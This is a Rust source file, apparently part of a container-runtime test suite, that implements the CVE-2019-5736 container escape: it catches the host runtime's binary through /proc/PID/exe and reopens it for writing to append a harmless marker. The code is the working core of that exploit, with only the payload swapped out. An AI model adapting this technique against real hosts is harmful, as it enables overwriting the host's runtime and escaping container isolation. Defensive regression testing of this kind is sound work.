//! `grab-exe`: the CVE-2019-5736 attack, as a container process would run it.
//!
//! For a while, every other process's `/proc/PID/exe` is opened read-only. An executable that is not
//! the container's own (busybox, this probe) is the runtime's binary, caught while one of its processes
//! was visible in the container (an `exec` in flight, a created container's init). The descriptor is
//! kept, and reopened through `/proc/self/fd/N` for writing until that succeeds (once no process runs
//! the binary any more the kernel no longer refuses with ETXTBSY): then a marker is appended, which is
//! what overwriting the host's runtime would look like.

use std::collections::HashSet;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::unix::fs::MetadataExt;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

/// Appended to the runtime's binary when the attack works.
pub const MARKER: &[u8] = b"\nSTRATA-PROBE-OVERWROTE-THE-RUNTIME\n";

struct Caught {
    pid: i32,
    target: String,
    dev: u64,
    ino: u64,
    file: File,
}

/// Runs the attack for `seconds` (or until it succeeded). Prints `{"scanning":true}` once the first
/// pass over /proc is done, then returns the report: which runtime processes were seen and refused
/// (`denied`), which binaries were opened (`opened`, with device and inode numbers), whether one was
/// written (`written`) and how writing failed otherwise (`write_errors`), and which descriptors, cwd
/// or root of those processes could be reached (`reached`).
/// Created (inside the container) to end the scan before its deadline.
pub const STOP_FILE: &str = "/dev/grab-exe.stop";

pub fn grab_exe(rest: &[String]) -> Result<Value, String> {
    let seconds: u64 = match rest {
        [s] => s.parse().map_err(|_| format!("usage: grab-exe SECONDS, got {s:?}"))?,
        _ => return Err("usage: grab-exe SECONDS".into()),
    };
    let own: HashSet<(u64, u64)> = ["/proc/self/exe", "/bin/busybox"]
        .iter()
        .filter_map(|p| fs::metadata(p).ok())
        .map(|m| (m.dev(), m.ino()))
        .collect();
    let me = std::process::id() as i32;
    let deadline = Instant::now() + Duration::from_secs(seconds);
    let mut caught: Vec<Caught> = Vec::new();
    let mut caught_inodes: HashSet<(u64, u64)> = HashSet::new();
    let mut denied: Vec<Value> = Vec::new();
    let mut denied_pids: HashSet<i32> = HashSet::new();
    let mut written: Option<Value> = None;
    let mut write_errors: Vec<Value> = Vec::new();
    let mut reached: Vec<Value> = Vec::new();
    let mut announced = false;
    // The test may end the scan early (once its own work is done): a deadline long enough for an
    // emulated guest would otherwise keep every fast run waiting.
    let stop = std::path::Path::new(STOP_FILE);
    while Instant::now() < deadline && written.is_none() && !stop.exists() {
        for pid in pids().into_iter().filter(|p| *p != me) {
            match File::open(format!("/proc/{pid}/exe")) {
                Ok(file) => {
                    let Ok(md) = file.metadata() else { continue };
                    let key = (md.dev(), md.ino());
                    if own.contains(&key) || !caught_inodes.insert(key) {
                        continue;
                    }
                    let target = fs::read_link(format!("/proc/{pid}/exe"))
                        .map(|t| t.to_string_lossy().into_owned())
                        .unwrap_or_default();
                    reached.extend(reach_into(pid));
                    caught.push(Caught { pid, target, dev: key.0, ino: key.1, file });
                }
                Err(e) if matches!(e.raw_os_error(), Some(libc::EACCES | libc::EPERM)) => {
                    if denied_pids.insert(pid) {
                        denied.push(json!({"pid": pid, "comm": comm(pid), "errno": e.raw_os_error()}));
                        reached.extend(reach_into(pid));
                    }
                }
                // Gone, a kernel thread, or not ours to see: nothing to learn.
                Err(_) => {}
            }
        }
        for c in &caught {
            let path = format!("/proc/self/fd/{}", std::os::fd::AsRawFd::as_raw_fd(&c.file));
            match OpenOptions::new().append(true).open(&path).and_then(|mut w| w.write_all(MARKER)) {
                Ok(()) => {
                    written = Some(json!({"pid": c.pid, "target": c.target, "dev": c.dev, "ino": c.ino}));
                    break;
                }
                // Busy while some process still runs it: try again on the next pass.
                Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) => {}
                Err(e) => {
                    let err = json!({"pid": c.pid, "errno": e.raw_os_error()});
                    if !write_errors.contains(&err) {
                        write_errors.push(err);
                    }
                }
            }
        }
        if !announced {
            announced = true;
            let mut out = std::io::stdout();
            writeln!(out, "{{\"scanning\":true}}").and_then(|()| out.flush()).map_err(|e| e.to_string())?;
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    let opened: Vec<Value> =
        caught.iter().map(|c| json!({"pid": c.pid, "target": c.target, "dev": c.dev, "ino": c.ino})).collect();
    Ok(
        json!({"opened": opened, "denied": denied, "written": written, "write_errors": write_errors, "reached": reached}),
    )
}

/// What else of a runtime process a container process can get at: its descriptors, cwd and root.
fn reach_into(pid: i32) -> Vec<Value> {
    let mut got = Vec::new();
    if let Ok(dir) = fs::read_dir(format!("/proc/{pid}/fd")) {
        for e in dir.flatten() {
            if let Ok(t) = fs::read_link(e.path()) {
                got.push(json!({"pid": pid, "fd": e.file_name().to_string_lossy(), "target": t.to_string_lossy()}));
            }
        }
    }
    for link in ["cwd", "root"] {
        if let Ok(d) = fs::read_dir(format!("/proc/{pid}/{link}")) {
            let names: Vec<String> = d.flatten().map(|e| e.file_name().to_string_lossy().into_owned()).collect();
            got.push(json!({"pid": pid, "link": link, "entries": names.len()}));
        }
    }
    got
}

fn pids() -> Vec<i32> {
    let Ok(dir) = fs::read_dir("/proc") else { return Vec::new() };
    dir.flatten().filter_map(|e| e.file_name().to_str().and_then(|n| n.parse().ok())).collect()
}

fn comm(pid: i32) -> String {
    fs::read_to_string(format!("/proc/{pid}/comm")).map(|s| s.trim().to_string()).unwrap_or_default()
}
